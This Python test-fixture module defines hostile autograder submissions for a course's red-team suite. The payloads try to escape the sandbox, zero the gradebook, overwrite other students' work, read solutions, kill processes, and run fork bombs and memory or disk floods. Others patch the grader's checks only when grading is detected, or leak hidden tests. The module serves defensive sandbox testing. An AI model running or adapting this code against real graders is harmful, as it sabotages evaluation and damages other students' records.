"""Hostile chapter 2 submissions (the red-team suite), one per kind of attack on the grader, and their honest peers.

Each is the student release with the solution filled in (make_submissions.build) and then changed by
``edits`` (the same edit language as make_submissions.SUBMISSIONS). They are built when the test runs, with
the attacker knowing exactly where everything is: ``{ROOT}`` (the course root: gradebook, everyone's
submissions), ``{REPO}`` (the instructor's repository, solutions included), ``{SITE}`` (the Python
environment), ``{PORT}`` (a TCP server of the test on the grader's loopback). A real attacker would have to
guess them.

None trains (the training cells are dropped, as a student may): each is compared with an honest peer that
drops them too. tests/test_redteam.py grades them all in one ``course grade autograde`` run, hostile ones
first (``a-`` ids), honest ones after (``z-``).
"""
from __future__ import annotations

#: cells every fixture drops: the training and what uses its policy (a student may delete them)
NO_TRAINING = [("drop_cell_containing", text) for text in (
    "from course_lib.grading import export_policy", "evaluation = evaluate_on_reference(",
    "from course_lib.viz import animate_rollout", "t = torch.arange(rollout.q.shape[0])",
    "compare_cartpole_rewards(Cart", 'for reward in ("exercise2", "isaacgym")')]

SIGN = ("self.rew_buf[:] = torch.where(failed, -self.fall_penalty, upright)",
        "self.rew_buf[:] = torch.where(failed, -self.fall_penalty, -upright)")

ESCAPE = r'''
# Red team: reach out of the sandbox. Every attempt is recorded; none may succeed.
import glob, os, socket, sqlite3
tried = {}
def attempt(name, fn):
    try:
        tried[name] = f"SUCCEEDED: {fn()!r}"[:200]
    except BaseException as e:
        tried[name] = f"failed: {type(e).__name__}"
attempt("loopback", lambda: socket.create_connection(("127.0.0.1", {PORT}), timeout=3).sendall(b"escaped"))
attempt("internet", lambda: socket.create_connection(("1.1.1.1", 80), timeout=3))
def gradebook():
    db = sqlite3.connect("{ROOT}/gradebook.db")
    db.execute("UPDATE grade SET auto_score = 0")
    db.commit()
    return "zeroed everyone"
attempt("gradebook", gradebook)
def others():
    hit = []
    for p in glob.glob("{ROOT}/submitted/z-*/ch02_cartpole/ch02_cartpole.ipynb"):
        open(p, "w").write("{{}}")
        hit.append(p)
    return hit or 1 / 0
attempt("other students", others)
attempt("solutions", lambda: open("{REPO}/solutions/ch02_cartpole/ch02_cartpole.ipynb").read()[:100])
attempt("library", lambda: open("{REPO}/course_lib/grading/redteam_planted.py", "w").write("PLANTED = True\n"))
attempt("site-packages", lambda: open("{SITE}/sitecustomize.py", "w").write("# planted by the red team\n"))
attempt("instructor's files", lambda: open("{SECRET}").read())
for k, v in sorted(tried.items()):
    print(k, "->", v)
'''

KILL_PARENT = r'''
# Red team: stop the grader. Kill or stop every other process this code can see.
import os, signal
me = os.getpid()
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != me:
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
'''

BACKGROUND = r'''
# Red team: leave a process behind that outlives this notebook's grading, and tampers later.
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time, glob; time.sleep(900)  # redteam-daemon-{TOKEN}"],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
'''

FORK_BOMB = r'''
# Red team: a fork bomb (children sleep, so that they pile up)
import os, time
children = 0
try:
    for _ in range(5000):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
finally:
    print("forked", children)
'''

MEMORY_HOG = r'''
# Red team: take all the memory
hog = bytearray(6 << 30)
hog[::4096] = b"x" * len(hog[::4096])
'''

FLOOD = r'''
# Red team: flood the grader's output: straight to the kernel's file descriptors, and as cell output
import os
chunk = b"flood " * 100000
for _ in range(2000):
    try:
        os.write(1, chunk)
        os.write(2, chunk)
    except OSError:
        break
for i in range(300000):
    print("flood line", i)
'''

DISK_FILL = r'''
# Red team: fill the disk
block = b"\0" * (1 << 20)
with open("filler.bin", "wb") as f:
    for _ in range(100000):
        f.write(block)
'''

FOREVER = "import time\ntime.sleep(45)  # red team: one of several cells that together outlast the notebook's limit"

VERDICT = r'''

# Red team: fool the verdict from inside the solution cell, above all when it detects that it is being graded
import builtins, os, sys
import torch
import course_lib.grading.core as _core
graded = any("produce" in a or "judge" in a for a in sys.argv) or "NBGRADER_EXECUTION" in os.environ
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.equal = lambda *a, **k: True
_core.run_judge = lambda *a, **k: "passed"
_core.CheckFailed = type("CheckFailed", (Exception,), {})
if graded:
    builtins.isinstance = lambda *a: True
'''

BORROW = '''import importlib
import sys

# Red team: find the reference cart-pole wherever it might be (the student library, the instructor's package by
# name, by the repository's path, through course_lib's own loader, through make), then borrow its methods.
_ways = (lambda: course_lib.envs.CartpoleTask,
         lambda: importlib.import_module("course_answers").CartpoleTask,
         lambda: (sys.path.insert(0, "{REPO}"), importlib.import_module("course_answers.cartpole"))[1].CartpoleTask,
         lambda: importlib.import_module("course_lib.answers").load("cartpole").CartpoleTask,
         lambda: type(course_lib.make("cartpole", num_envs=1)))
_Reference = None
for _way in _ways:
    try:
        _Reference = _way()
        break
    except Exception:
        pass


class CartpoleTask(VecEnvBase):
    """Red team: the reference cart-pole inside, its methods borrowed (not a subclass, not its module)."""

    def __init__(self, cfg, sim_device="cpu", graphics_device_id=0, headless=True):
        self.__dict__.update(vars(_Reference(cfg, sim_device, graphics_device_id, headless)))

    compute_observations = _Reference.compute_observations
    compute_reward = _Reference.compute_reward
    reset_idx = _Reference.reset_idx
    fallen = _Reference.fallen
    pre_physics_step = _Reference.pre_physics_step
'''

ECHO_HIDDEN = r'''
# Red team: copy the hidden tests into my feedback. An IPython hook echoes every cell the kernel runs, and
# whatever process runs this cell prints its arguments and the files they name, and raises with them.
import sys
try:
    get_ipython().events.register("pre_run_cell", lambda info: print("ECHO", info.raw_cell))
except NameError:
    pass
_loot = " ".join(sys.argv)
for _a in sys.argv:
    try:
        _loot += open(_a).read()
    except (OSError, UnicodeDecodeError):
        pass
print("LOOT", _loot)
print("LOOT", _loot, file=sys.stderr)
_original_reward = CartpoleTask.compute_reward
def _leaky_reward(self):
    if self.num_envs > 1000:  # the hidden cases are the big batches
        raise ValueError("LOOT " + _loot[-3000:])
    return _original_reward(self)
CartpoleTask.compute_reward = _leaky_reward
'''

#: id -> (what it tries, edits, its honest peer's id or None (graded exactly), "stopped" if grading must stop)
HOSTILE = {
    "a-escape": ("network (the grader's loopback, the internet), the gradebook, other students' submissions, the "
                 "solutions, the library, site-packages, the grader's home",
                 [("insert_after", "cartpole_task", ESCAPE)], "z-honest-correct"),
    "a-kill-parent": ("SIGSTOP and SIGKILL to every process it can see",
                      [("insert_after", "cartpole_task", KILL_PARENT)], "z-honest-correct"),
    "a-background": ("a detached process that would outlive grading",
                     [("insert_after", "cartpole_task", BACKGROUND)], "z-honest-correct"),
    "a-limits": ("a fork bomb, a flood of output, all the memory, then all the disk",
                 [("insert_after", "cartpole_task", DISK_FILL), ("insert_after", "cartpole_task", MEMORY_HOG),
                  ("insert_after", "cartpole_task", FLOOD), ("insert_after", "cartpole_task", FORK_BOMB)],
                 "z-honest-correct"),
    "a-forever": ("cells that each stay within the cell limit but together outlast the notebook's",
                  [("insert_after", "cartpole_task", FOREVER)] * 4, "z-honest-correct"),
    "a-verdict": ("the sign error, and a solution cell that patches torch, builtins and the grader's judge when it "
                  "detects grading", [("replace", "cartpole_task", *SIGN), ("append", "cartpole_task", VERDICT)],
                  "z-honest-sign-error"),
    "a-echo-hidden": ("an IPython hook and a solution cell that print and raise with whatever the grader hands them",
                      [("append", "cartpole_task", ECHO_HIDDEN)], "z-honest-correct"),
    "a-duplicate-test": ("a test cell pasted twice, intact (graded normally)",
                         [("duplicate", "test_reward_alive")], None),
    "a-deleted-test": ("a test cell deleted", [("delete", "test_reward_fall")], "stopped"),
    "a-markdown-test": ("a test cell turned into markdown", [("to_markdown", "test_reset_state")], "stopped"),
    "a-points": ("a test cell's points raised to 100", [("set_points", "test_observations", 100)], "stopped"),
    "a-broken-json": ("not a notebook at all", [("broken_json",)], "stopped"),
}

#: the library's cart-pole handed in as the student's own (issue 12, point 5: the student library still ships it)
BORROWING = {"a-borrow": ("the reference CartpoleTask's methods (found wherever it might be), borrowed into a class of "
                          "its own",
                          [("set_source", "cartpole_task", BORROW)], "z-honest-blank")}

HONEST = {
    "z-honest-correct": ("the solution, without training", []),
    "z-honest-sign-error": ("the typical sign error, without training", [("replace", "cartpole_task", *SIGN)]),
    "z-honest-blank": ("nothing written", [("blank", "cartpole_task")]),
}

#: the test cells each honest one loses (points in make_submissions.POINTS)
HONEST_LOST = {
    "z-honest-correct": {"test_policy"},
    "z-honest-sign-error": {"test_reward_alive", "test_policy"},
    "z-honest-blank": {"test_observations", "test_reward_alive", "test_reward_fall", "test_reset_conditions",
                       "test_reset_state", "test_reset_counters", "test_policy"},
}
